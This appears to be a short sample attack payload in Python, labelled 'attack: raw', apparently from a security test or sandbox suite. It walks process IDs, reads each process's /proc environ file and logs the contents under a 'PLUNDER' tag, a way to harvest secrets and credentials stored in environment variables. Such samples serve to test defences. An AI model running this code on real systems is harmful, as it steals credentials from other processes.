# attack: raw | reads the environment of every process it can see
import os
for process in range(1, 400):
    try:
        with open(f"/proc/{process}/environ", "rb") as file:
            log("PLUNDER-ENVIRONMENT", file.read(100))
    except OSError:
        pass
log(os.environ.get("PLUNDER_VARIABLE", "nothing"))
